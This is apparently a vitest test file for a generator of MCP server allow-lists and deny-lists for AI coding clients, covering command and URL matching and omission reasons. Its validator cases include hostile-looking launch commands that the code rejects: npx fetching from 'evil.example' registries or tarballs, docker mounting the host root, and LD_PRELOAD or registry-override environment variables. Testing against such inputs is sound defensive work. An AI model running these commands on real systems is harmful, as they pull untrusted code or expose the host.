import { describe, expect, it } from 'vitest';
import { ClientConfig, type ConfigPart, type ServerVersion } from './client-config.js';
import { type ClientName, CLIENTS, type ConfigForm } from './clients.js';
import type { PluginVersion } from './plugin-server.js';

type Config = Record<string, unknown>;

const NONE: ReadonlySet<string> = new Set();

const plugin = (...configs: Config[]): PluginVersion => ({
  name: 'io.acme/tools',
  version: '1.0.0',
  servers: configs.map((config, index) => ({ name: `s${index + 1}`, config })),
});
const listed = (client: ClientName, config: Config, form: ConfigForm = 'allowlist'): ConfigPart =>
  new ClientConfig(client, form, { marketplace: 'acme' }).ofPlugin(plugin(config), NONE);
const reasonFor = (client: ClientName, config: Config) => {
  const { 'x-omitted': omitted = [], ...rest } = listed(client, config) as {
    'x-omitted'?: { reason: string }[];
  };
  return Object.keys(rest).length > 0 ? 'listed' : omitted.map(({ reason }) => reason).join();
};
const run = (line: string, more: Config = {}): Config => {
  const [command, ...args] = line.split(' ');
  return { command, args, ...more };
};

const NPX = { type: 'stdio', ...run('npx -y left-pad@1.3.0 --port 80') };
const REMOTE = { type: 'http', url: 'https://acme.example/mcp' };
const LEFT = run('npx -y left-pad@1.3.0');
const OPEN = { type: 'streamable-http', variables: { x: { isRequired: true } } };
/** A published server that is started like `LEFT`, or reached at `REMOTE`. */
const SERVER: ServerVersion = {
  name: 'io.acme/left',
  version: '1.0.0',
  document: JSON.stringify({
    remotes: [{ type: 'streamable-http', url: REMOTE.url }],
    packages: [
      { registryType: 'npm', identifier: 'left-pad', version: '1.3.0', transport: { type: 'stdio' } },
    ],
  }),
};

describe('a plugin’s server in an allow-list', () => {
  const WORDS = ['npx', '-y', 'left-pad@1.3.0', '--port', '80'];
  it.each<[ClientName, Config, Config]>([
    ...(['vscode', 'copilot'] as const).flatMap((client): [ClientName, Config, Config][] => [
      [client, NPX, { allowedMcpServers: [{ serverCommand: WORDS }] }],
      [client, REMOTE, { allowedMcpServers: [{ serverUrl: REMOTE.url }] }],
    ]),
    ['claude-code', NPX, { allowManagedMcpServersOnly: true, allowedMcpServers: [{ serverCommand: WORDS }] }],
    [
      'claude-code',
      REMOTE,
      { allowManagedMcpServersOnly: true, allowedMcpServers: [{ serverUrl: REMOTE.url }] },
    ],
    ['cursor', NPX, { commandEntries: [`*${WORDS.join(' ')}`], urlEntries: [] }],
    ['cursor', REMOTE, { commandEntries: [], urlEntries: [REMOTE.url] }],
    [
      'codex',
      NPX,
      {
        plugins: {
          'io-acme-tools@acme': {
            mcp_servers: {
              s1: {
                identity: {
                  command: {
                    executable: 'npx',
                    args: WORDS.slice(1).map((value) => ({ match: 'exact', value })),
                  },
                },
              },
            },
          },
        },
      },
    ],
    // Codex compares the text of a URL; in other clients a URL without a path would allow any path.
    [
      'codex',
      { url: 'https://acme.example' },
      {
        plugins: {
          'io-acme-tools@acme': { mcp_servers: { s1: { identity: { url: 'https://acme.example' } } } },
        },
      },
    ],
    [
      'copilot',
      { url: 'https://acme.example' },
      { allowedMcpServers: [{ serverUrl: 'https://acme.example/' }] },
    ],
  ])('matches how %s starts it: %j', (client, config, expected) => {
    expect(listed(client, config)).toEqual(expected);
    if (client !== 'cursor') expect(listed(client, config, 'managed')).toEqual(expected);
  });

  it.each<[Config, string]>([
    [run('npx left-pad'), 'listed'],
    [run('npx --yes -q @acme/left-pad@latest'), 'listed'],
    [run('npx left-pad --package evil'), 'listed'],
    [run('uvx mcp-server-git@1.0 --repository x'), 'listed'],
    [run('docker run -i --rm -e TOKEN --env A=b --env=C=d acme/tool:1 --flag'), 'listed'],
    [run('dnx Acme.Tool@1.0 --yes -- a'), 'listed'],
    [run('npx -y left-pad', { env: { TOKEN: 'x' }, cwd: './' }), 'listed'],
    [run('npx --package evil left-pad'), 'unsafe_runtime_argument'],
    [run('npx -p evil left-pad'), 'unsafe_runtime_argument'],
    [run('npx --registry=https://evil.example left-pad'), 'unsafe_runtime_argument'],
    [run('npx -c evil'), 'unsafe_runtime_argument'],
    [run('uvx --from evil left-pad'), 'unsafe_runtime_argument'],
    [run('docker run -v /:/host acme/tool'), 'unsafe_runtime_argument'],
    [run('docker exec -i tool a'), 'unsafe_runtime_argument'],
    [run('docker run -e LD_PRELOAD=/x acme/tool'), 'unsafe_environment_variable'],
    [run('docker run --env=NODE_OPTIONS acme/tool'), 'unsafe_environment_variable'],
    [run('docker run -e'), 'invalid_environment_variable'],
    [run('dnx Acme.Tool --source https://evil.example'), 'unsafe_runtime_argument'],
    [run('npx -y'), 'invalid_package'],
    [run('npx'), 'invalid_package'],
    [run('npx https://evil.example/a.tgz'), 'invalid_package'],
    [run('npx ./a.tgz'), 'invalid_package'],
    [run('npx github:acme/a'), 'invalid_package'],
    [run('npx a@npm:b'), 'invalid_package'],
    [
      run('npx -y left-pad', { env: { npm_config_registry: 'https://evil.example' } }),
      'unsafe_environment_variable',
    ],
    [run('npx -y left-pad', { env: ['A'] }), 'invalid_environment_variable'],
    [run('bunx left-pad'), 'no_launcher'],
    [run('NPX -y left-pad'), 'no_launcher'],
    [run('sh -c npx'), 'no_launcher'],
    [run('node ${CLAUDE_PLUGIN_ROOT}/server.js'), 'no_launcher'],
    [{ command: 'npx -y left-pad' }, 'no_launcher'],
    [run('npx -y left-pad ${HOME}'), 'variable_reference'],
    [{ command: 'npx', args: ['-y', 1] }, 'no_connection'],
    [{ command: 'npx', args: 'left-pad' }, 'no_connection'],
    [{}, 'no_connection'],
    [{ type: 'ws', url: 'wss://acme.example' }, 'unsupported_remote'],
    [{ type: 'constructor', url: 'https://acme.example' }, 'unsupported_remote'],
    [{ url: 'https://${HOST}/mcp' }, 'variable_reference'],
    [{ url: 'https://user@acme.example/mcp' }, 'invalid_url'],
    [{ url: 'https://acme.example/*' }, 'wildcard'],
  ])('follows the rules for published packages: %j is %s', (config, expected) => {
    expect(reasonFor('copilot', config)).toBe(expected);
  });

  it('is omitted with its name, without affecting other servers', () => {
    const part = new ClientConfig('copilot', 'allowlist').ofPlugin(
      plugin(NPX, run('node a.js'), REMOTE),
      NONE,
    );
    expect(part).toEqual({
      allowedMcpServers: [
        { serverCommand: ['npx', '-y', 'left-pad@1.3.0', '--port', '80'] },
        { serverUrl: REMOTE.url },
      ],
      'x-omitted': [{ name: 'io.acme/tools', version: '1.0.0', server: 's2', reason: 'no_launcher' }],
    });
  });

  it('is not listed for Codex without a marketplace, whose name identifies its plugins', () => {
    expect(new ClientConfig('codex', 'allowlist').kinds).toEqual(['latest']);
    expect(new ClientConfig('codex', 'allowlist', { marketplace: 'acme' }).kinds).toEqual([
      'latest',
      'plugin',
    ]);
    expect(new ClientConfig('copilot', 'allowlist').kinds).toEqual(['latest', 'plugin']);
    expect(new ClientConfig('copilot', 'servers').kinds).toEqual(['latest']);
  });
});

describe('a plugin’s server in an allow-list, if a deny-list has the same connection', () => {
  const RUN = run('npx -y left-pad@1.4.0');
  const EVERYWHERE = {
    ...SERVER,
    document: JSON.stringify({ remotes: [{ ...OPEN, url: `${REMOTE.url}/{x}` }] }),
  };
  it.each(CLIENTS)('is omitted for %s, unless a listed server has it', (client) => {
    const config = new ClientConfig(client, 'allowlist', { marketplace: 'acme' });
    const reasonOf = (server: Config, denied: readonly string[]) =>
      (config.ofPlugin(plugin(server), new Set(denied))['x-omitted'] as { reason: string }[] | undefined)?.[0]
        ?.reason ?? 'listed';
    const denied = config.deniedKeys(SERVER, NONE);
    expect(reasonOf(LEFT, denied)).toBe('denied');
    expect(reasonOf({ ...REMOTE, url: 'HTTPS://acme.example/mcp' }, denied)).toBe('denied');
    expect(reasonOf(RUN, denied)).toBe('listed');
    expect(reasonOf({ url: 'https://acme.example/other' }, denied)).toBe('listed');
    expect(reasonOf(LEFT, config.deniedKeys(plugin(LEFT), NONE))).toBe('denied');
    const listed = new Set(config.listedKeys(SERVER));
    for (const version of [SERVER, plugin(LEFT)])
      expect(reasonOf(LEFT, config.deniedKeys(version, listed))).toBe('listed');
    if (client !== 'codex')
      expect(reasonOf(REMOTE, config.deniedKeys(EVERYWHERE, NONE)), 'a wildcard').toBe('denied');
  });
});

describe('a plugin’s server in a deny-list', () => {
  const config = new ClientConfig('claude-code', 'denylist');
  const denied = (configs: Config[], listed = NONE) => config.deniedPlugin(plugin(...configs), listed);

  it('covers everything that the plugin starts', () => {
    expect(denied([run('npx -p evil left-pad'), run('node a.js'), REMOTE])).toEqual({
      deniedMcpServers: [
        { serverCommand: ['npx', '-p', 'evil', 'left-pad'] },
        { serverCommand: ['node', 'a.js'] },
        { serverUrl: REMOTE.url },
      ],
    });
  });

  it('is omitted if a listed server is identical, or if it cannot be written', () => {
    expect(
      denied([LEFT, run('node ${CLAUDE_PLUGIN_ROOT}/a.js')], new Set(config.listedKeys(SERVER))),
    ).toEqual({
      'x-omitted': [
        { name: 'io.acme/tools', version: '1.0.0', server: 's1', reason: 'still_listed' },
        { name: 'io.acme/tools', version: '1.0.0', server: 's2', reason: 'variable_reference' },
      ],
    });
  });

  it.each<[Config, object[]]>([
    [
      { command: 'npx', args: ['evil'], url: REMOTE.url },
      [{ serverUrl: REMOTE.url }, { serverCommand: ['npx', 'evil'] }],
    ],
    [
      { type: 'stdio', command: 'npx', args: ['evil'], url: REMOTE.url },
      [{ serverUrl: REMOTE.url }, { serverCommand: ['npx', 'evil'] }],
    ],
    [{ command: 'npx', args: ['evil'], url: 'https://${HOST}' }, [{ serverCommand: ['npx', 'evil'] }]],
    [{ command: 'npx', args: ['evil'], url: null }, [{ serverCommand: ['npx', 'evil'] }]],
    [{ command: 'npx', args: ['${X}'], url: REMOTE.url }, [{ serverUrl: REMOTE.url }]],
    [{ type: 'ws', url: REMOTE.url }, [{ serverUrl: REMOTE.url }]],
  ])('contains both its URL and its command: %j', (server, expected) => {
    expect(denied([server])).toMatchObject({ deniedMcpServers: expected });
  });
});

it('lists the smallest servers if the list of a plugin would be too long', () => {
  const long = run(`npx -y left-pad ${'x'.repeat(40_000)}`);
  const many = Array.from({ length: 1_000 }, (_, index) => run(`npx -y left-pad ${'x'.repeat(80)}${index}`));
  const small = { serverCommand: ['npx', '-y', 'left-pad@1.3.0'] };
  const config = new ClientConfig('copilot', 'managed');
  const omitted = { name: 'io.acme/tools', version: '1.0.0', reason: 'too_long' };
  for (const part of [
    config.ofPlugin(plugin(long, LEFT), NONE),
    config.deniedPlugin(plugin(long, LEFT), NONE),
  ])
    expect(Object.values(part)).toEqual([[small], [{ ...omitted, server: 's1' }]]);
  for (const part of [
    config.ofPlugin(plugin(...many, LEFT), NONE),
    config.deniedPlugin(plugin(...many, LEFT), NONE),
  ]) {
    expect(Object.values(part)).toEqual([expect.arrayContaining([small]), [omitted]]);
    expect(JSON.stringify(part, null, 2).length).toBeLessThan(64 * 1_024);
  }
});
